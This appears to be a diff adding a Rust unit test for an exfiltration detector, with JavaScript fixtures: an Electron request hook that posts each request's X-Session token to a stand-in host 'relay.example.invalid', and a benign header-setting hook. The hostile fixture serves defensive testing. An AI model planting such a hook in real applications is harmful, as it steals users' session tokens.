@@ -1938,3 +1938,33 @@ module.exports = { tags };
 "#;
     assert!(!exfiltrates(src), "{:?}", facts(src));
 }
+
+#[test]
+fn an_electron_request_hook_that_posts_the_request_headers_is_exfiltration() {
+    // An Electron app's session hooked: every request's headers (its session token among
+    // them) posted to another host.
+    let hooked = r#"
+const { session } = require('electron');
+const net = require('https');
+session.defaultSession.webRequest.onBeforeSendHeaders({ urls: ['*://*/*'] }, (info, done) => {
+  const grabbed = info.requestHeaders['X-Session'];
+  const out = net.request({ host: 'relay.example.invalid', method: 'POST', path: '/s' });
+  out.end(JSON.stringify({ v: grabbed }));
+  done({ requestHeaders: info.requestHeaders });
+});
+"#;
+    let k = kinds(hooked);
+    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(hooked));
+    // A hook that sets a header of the app's own and logs locally: nothing is sent.
+    let sets = r#"
+const { session } = require('electron');
+session.defaultSession.webRequest.onBeforeSendHeaders((details, callback) => {
+  details.requestHeaders['User-Agent'] = 'Viewer/2.0';
+  console.log('request to', details.url);
+  callback({ requestHeaders: details.requestHeaders });
+});
+"#;
+    let k = kinds(sets);
+    assert!(!k.contains(&K::SecretExfiltration), "{:?}", facts(sets));
+    assert!(!k.contains(&K::Network), "{:?}", facts(sets));
+}
